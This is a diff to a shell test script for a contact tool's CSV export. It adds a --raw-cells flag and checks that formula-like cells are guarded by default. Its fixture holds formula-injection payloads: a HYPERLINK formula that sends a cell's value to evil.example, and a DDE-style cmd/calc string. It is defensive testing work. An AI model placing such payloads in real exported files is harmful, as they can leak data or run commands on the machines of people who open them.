@@ -1,7 +1,8 @@
 #!/bin/bash
-# outpost export: RFC 4180 CSV that imports back into a fresh database as
-# the same records, vCard 4.0, atomic --output files, tombstones and
-# metadata on request, and clear usage errors.
+# outpost export: RFC 4180 CSV with formula cells guarded for spreadsheets,
+# raw cells that import back into a fresh database as the same records,
+# vCard 4.0, atomic --output files, tombstones and metadata on request, and
+# clear usage errors.
 set -u
 . "$TESTS_DIR/cli/lib.sh"
 # These tests drive custom fields (tier, note) that no shipped profile
@@ -19,6 +20,8 @@ expect_exit 2 "$OUTPOST" export --db "$DB" --format xml
 expect_contains "$ERR" "unknown format 'xml' (csv or vcard)"
 expect_exit 2 "$OUTPOST" export --db "$DB" --format vcard --with-meta
 expect_contains "$ERR" "--with-meta applies to CSV only"
+expect_exit 2 "$OUTPOST" export --db "$DB" --format vcard --raw-cells
+expect_contains "$ERR" "--raw-cells applies to CSV only"
 expect_exit 2 "$OUTPOST" export --db "$DB" stray
 expect_contains "$ERR" "unexpected argument 'stray'"
 expect_exit 2 "$OUTPOST" export --db "$DB" --output
@@ -44,7 +47,7 @@ expect_exit 0 "$OUTPOST" export --db "$DB"
 expect_exit 0 "$OUTPOST" import --db "$DB" awkward.csv
 expect_contains "$OUT" "imported 5 contacts"
 
-expect_exit 0 "$OUTPOST" export --db "$DB"
+expect_exit 0 "$OUTPOST" export --db "$DB" --raw-cells
 cp "$OUT" export1.csv
 [ ! -s "$ERR" ] || die "noise on stderr: $(cat "$ERR")"
 head -n1 export1.csv | grep -q ',birth_date,custom.note,custom.tier'$'\r''$' ||
@@ -63,7 +66,7 @@ grep -qF ',lead and trail,' export1.csv || die "custom value not trimmed: $(grep
 "$OUTPOST" init --db "$T/copy.db" --region EU-DE >/dev/null || die "init copy failed"
 expect_exit 0 "$OUTPOST" import --db "$T/copy.db" export1.csv
 expect_contains "$OUT" "imported 5 contacts from export1.csv"
-expect_exit 0 "$OUTPOST" export --db "$T/copy.db"
+expect_exit 0 "$OUTPOST" export --db "$T/copy.db" --raw-cells
 cmp -s "$OUT" export1.csv || die "round trip changed the export: $(diff "$OUT" export1.csv)"
 q="SELECT id, given_name, family_name, email, phone, street, locality, country, job_title,
           birth_date, restricted, custom FROM contacts ORDER BY id"
@@ -73,7 +76,7 @@ q="SELECT id, given_name, family_name, email, phone, street, locality, country, 
     die "an empty custom value was stored: $(sqlite3 "$T/copy.db" "SELECT custom FROM contacts WHERE id LIKE '%c4'")"
 
 # With metadata the export still imports (the meta columns are ignored).
-expect_exit 0 "$OUTPOST" export --db "$DB" --with-meta
+expect_exit 0 "$OUTPOST" export --db "$DB" --with-meta --raw-cells
 cp "$OUT" meta.csv
 head -n1 meta.csv | grep -q ',custom.tier,version,created_at,updated_at,deleted'$'\r''$' ||
     die "meta columns missing: $(head -n1 meta.csv)"
@@ -81,11 +84,48 @@ head -n1 meta.csv | grep -q ',custom.tier,version,created_at,updated_at,deleted'
 expect_exit 0 "$OUTPOST" import --db "$T/meta.db" meta.csv
 expect_contains "$OUT" "imported 5 contacts"
 
+# --- formula cells ------------------------------------------------------------
+# By default a cell a spreadsheet would run is quoted behind a single quote:
+# the phone of c3 (+86...) and the formulas below. --raw-cells writes them
+# as stored, which is what a round trip needs.
+"$OUTPOST" init --db "$T/formula.db" --region EU-DE >/dev/null || die "init formula failed"
+{
+    printf 'id,given_name,family_name,phone,job_title,custom.note\r\n'
+    printf '01900000-0000-7000-8000-0000000000f1,"=HYPERLINK(""http://evil.example/?""&A1)","@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0",+49 30 1234567,-12,+1\r\n'
+    printf '01900000-0000-7000-8000-0000000000f2,Plain,a=b,,,\r\n'
+} > formula.csv
+expect_exit 0 "$OUTPOST" import --db "$T/formula.db" formula.csv
+expect_exit 0 "$OUTPOST" export --db "$T/formula.db"
+grep -qF ',"'"'"'=HYPERLINK(""http://evil.example/?""&A1)",' "$OUT" || die "= not guarded: $(cat "$OUT")"
+grep -qF ',"'"'"'@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0",' "$OUT" || die "@ not guarded: $(cat "$OUT")"
+for cell in '+49 30 1234567' '-12'; do
+    grep -qF ",\"'$cell\"," "$OUT" || die "$cell not guarded: $(cat "$OUT")"
+done
+grep -qF ",\"'+1\""$'\r' "$OUT" || die "custom +1 not guarded: $(cat "$OUT")"
+grep -qF ',Plain,a=b,' "$OUT" || die "a plain cell changed: $(cat "$OUT")"
+# no cell of the guarded export starts a formula
+grep -qE '(^|,)[=+@-]' "$OUT" && die "an unguarded formula cell: $(grep -E '(^|,)[=+@-]' "$OUT")"
+cp "$OUT" guarded.csv
+expect_exit 0 "$OUTPOST" export --db "$T/formula.db" --raw-cells
+grep -qF ',"=HYPERLINK(""http://evil.example/?""&A1)",' "$OUT" ||
+    die "raw cell changed: $(cat "$OUT")"
+grep -qF ',+49 30 1234567,' "$OUT" && grep -qF ',-12,' "$OUT" && grep -qF ',+1'$'\r' "$OUT" ||
+    die "raw cells changed: $(cat "$OUT")"
+cp "$OUT" raw.csv
+# the guarded file is for people: importing it refuses the guarded phone
+# and changes nothing; the raw one imports as the same records
+"$OUTPOST" init --db "$T/formula2.db" --region EU-DE >/dev/null || die "init formula2 failed"
+expect_exit 3 "$OUTPOST" import --db "$T/formula2.db" guarded.csv
+expect_contains "$ERR" "(phone): not a phone number"
+expect_exit 0 "$OUTPOST" import --db "$T/formula2.db" raw.csv
+q="SELECT id, given_name, family_name, phone, job_title, custom FROM contacts ORDER BY id"
+[ "$(sqlite3 "$T/formula.db" "$q")" = "$(sqlite3 "$T/formula2.db" "$q")" ] || die "raw round trip changed values"
+
 # --- tombstones --------------------------------------------------------------
 expect_exit 0 "$OUTPOST" contact delete --db "$DB" --version 1 01900000-0000-7000-8000-0000000000c5
 expect_exit 0 "$OUTPOST" export --db "$DB"
 grep -q 0000000000c5 "$OUT" && die "a deleted contact was exported"
-expect_exit 0 "$OUTPOST" export --db "$DB" --include-deleted --with-meta
+expect_exit 0 "$OUTPOST" export --db "$DB" --include-deleted --with-meta --raw-cells
 grep -q '^01900000-0000-7000-8000-0000000000c5,.*,2,[0-9TZ:.-]*,[0-9TZ:.-]*,true'$'\r''$' "$OUT" ||
     die "tombstone not exported with its metadata: $(grep c5 "$OUT")"
 cp "$OUT" tomb.csv
